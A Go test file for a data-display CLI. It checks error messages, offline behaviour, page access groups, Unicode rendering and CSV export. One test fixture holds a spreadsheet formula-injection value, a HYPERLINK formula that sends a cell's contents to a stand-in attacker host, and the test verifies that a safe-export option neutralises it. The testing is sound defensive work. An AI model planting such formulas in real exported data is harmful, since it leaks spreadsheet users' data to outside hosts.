package main

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

func TestShowSaysWhyAPageHasNothingToShow(t *testing.T) {
	tests := map[string]struct {
		args   []string
		config string
		code   int
		says   string
		prints string // "" = nothing on stdout
	}{
		"a country that is none, as data":  {[]string{"--format", "csv", "--countries", "China,Atlantis"}, "", exitFailed, "Atlantis", ""},
		"a country that is none, as text":  {[]string{"--countries", "China,Atlantis"}, "", exitFailed, "Atlantis", "China"},
		"a country that is none, as a svg": {[]string{"--format", "svg", "--countries", "China,Atlantis"}, "", exitFailed, "Atlantis", "<svg"},
		"no country, as data":              {[]string{"--format", "csv", "--countries", ""}, "", exitFailed, "Please select at least one country.", ""},
		"no country, as text":              {[]string{"--countries", ""}, "", exitDone, "", "Please select at least one country."},
		"a country by its other name":      {[]string{"--format", "csv", "--countries", "United States of America"}, "", exitDone, "", "United States"},
		"a file that is not there":         {[]string{"--format", "json", "--data", "nowhere.csv"}, "", exitFailed, "nowhere.csv", ""},
		"a file that is not there, drawn":  {[]string{"--data", "nowhere.csv"}, "", exitFailed, "nowhere.csv", "cannot be read"},
		"no network and no copy":           {[]string{"--format", "csv"}, "https://data.example.com/own.csv", exitNetwork, "offline", ""},
		"no network and no copy, drawn":    {nil, "https://data.example.com/own.csv", exitNetwork, "offline", "This demo requires internet access."},
		"nothing amiss":                    {[]string{"--format", "csv", "--countries", "China"}, "", exitDone, "", "Region,1961"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			p := newPlace(t)
			p.env["TABGATE_OFFLINE"] = "true"
			args := append([]string{"show", "dataframe"}, tt.args...)
			if tt.config != "" {
				path := p.write("config.yaml", "data:\n  agriculture: "+tt.config+"\n")
				args = append([]string{"--config", path}, args...)
			}
			got := p.run(args...)
			if got.code != tt.code || !strings.Contains(got.err, tt.says) {
				t.Errorf("exit %d, want %d: %q does not say %q", got.code, tt.code, got.err, tt.says)
			}
			if tt.prints == "" && got.out != "" || !strings.Contains(got.out, tt.prints) {
				t.Errorf("printed %q, want %q", got.out, tt.prints)
			}
		})
	}
}

func TestD1ExportedValuesAreExactAndSafeForSpreadsheetsOnRequest(t *testing.T) {
	const rows = "name,change,note\n" +
		"=HYPERLINK(\"\"http://evil.example/?\"\"&B2),-12.5,plain\n" +
		"@SUM(A1),+3,\"a;=b\"\n" + "-2+3,-1e-9,\"two\nlines\"\n" + "\"\tx\",,=\n"
	p := newPlace(t)
	file := p.write("own.csv", strings.Replace(rows, "=HYPERLINK(\"\"http://evil.example/?\"\"&B2)", "\"=HYPERLINK(\"\"http://evil.example/?\"\"&B2)\"", 1))
	read := func(args ...string) [][]string {
		t.Helper()
		got := p.run(append([]string{"show", "dataframe", "--format", "csv", "--data", file}, args...)...)
		cells, err := csv.NewReader(strings.NewReader(got.out)).ReadAll()
		if got.code != exitDone || err != nil || got.err != "" {
			t.Fatalf("exit %d, %v: %s", got.code, err, got.err)
		}
		return cells
	}
	exact := [][]string{
		{"name", "change", "note"}, {"=HYPERLINK(\"http://evil.example/?\"&B2)", "-12.5", "plain"},
		{"@SUM(A1)", "+3", "a;=b"}, {"-2+3", "-1e-9", "two\nlines"}, {"\tx", "", "="},
	}
	if got := read(); !slices.EqualFunc(got, exact, slices.Equal) {
		t.Errorf("D-1 exact: %q", got)
	}
	safe := [][]string{
		{"name", "change", "note"}, {"'=HYPERLINK(\"http://evil.example/?\"&B2)", "-12.5", "plain"},
		{"'@SUM(A1)", "+3", "a;'=b"}, {"'-2+3", "-1e-9", "two\nlines"}, {"'\tx", "", "'="},
	}
	if got := read("--spreadsheet-safe"); !slices.EqualFunc(got, safe, slices.Equal) {
		t.Errorf("D-1 safe: %q", got)
	}
	plain := p.run("show", "plotting", "--format", "csv", "--spreadsheet-safe")
	if plain.code != exitNotSignedIn || plain.out != "" {
		t.Errorf("the lock: exit %d, %q", plain.code, plain.out)
	}
	for _, format := range []string{"json", "text", "svg"} {
		if got := p.run("show", "dataframe", "--format", format, "--spreadsheet-safe"); got.code != exitUsage || !strings.Contains(got.err, "--format csv") {
			t.Errorf("%s: exit %d, %s", format, got.code, got.err)
		}
	}
}

func TestPagesSayWhoMayOpenThem(t *testing.T) {
	p := newPlace(t)
	path := p.write("config.yaml", "pages:\n  plotting: {groups: []}\n  mapping: {groups: [\"*\"]}\n  dataframe: {groups: [A, B]}\n")
	got := p.run("--config", path, "pages")
	for id, want := range map[string]string{
		"plotting": "Plotting Demo   anyone            open", "mapping": "Mapping Demo    anyone signed in  sign in first",
		"dataframe": "DataFrame Demo  A, B              sign in first",
	} {
		if !strings.Contains(got.out, want) {
			t.Errorf("%s should be %q in\n%s", id, want, got.out)
		}
	}
	words := map[string]string{}
	for _, a := range decode[[]access](t, p.run("--config", path, "pages", "--json").out) {
		words[a.ID] = a.Access + strings.Join(a.Groups, "+")
	}
	if words["plotting"] != "open" || words["mapping"] != "sign_in*" || words["dataframe"] != "sign_inA+B" {
		t.Errorf("got %v", words)
	}
	for id, want := range map[string]string{"mapping": "needs somebody signed in", "dataframe": "needs one of the groups A, B"} {
		if got := p.run("--config", path, "show", id); got.code != exitNotSignedIn || !strings.Contains(got.err, want) {
			t.Errorf("show %s: exit %d, %s", id, got.code, got.err)
		}
	}
}

func TestShowKeepsTheLettersOfEveryScript(t *testing.T) {
	p := newPlace(t)
	names := []string{"हिन्दी", "ไทย ที่", "👩‍👩‍👧", "🇩🇪", "cafe\u0301", "می\u200cخواهم"}
	file := p.write("names.csv", "Region,1961,1962\n"+strings.Join(names, ",1,2\n")+",1,2\n")
	for format, around := range map[string][2]string{"text": {"", " "}, "ansi": {"", " "}, "svg": {">", "<"}} {
		got := p.run("show", "dataframe", "--data", file, "--countries", strings.Join(names, ","), "--format", format, "--size", "100x30")
		for _, name := range names {
			whole := around[0] + name + around[1]
			if format == "svg" && name == names[0] {
				whole = ">हि<" // a syllable is fitted to its cells
			}
			if got.code != exitDone || !strings.Contains(got.out, whole) {
				t.Errorf("%s: exit %d, no %q in\n%s", format, got.code, whole, got.out)
			}
		}
	}
}
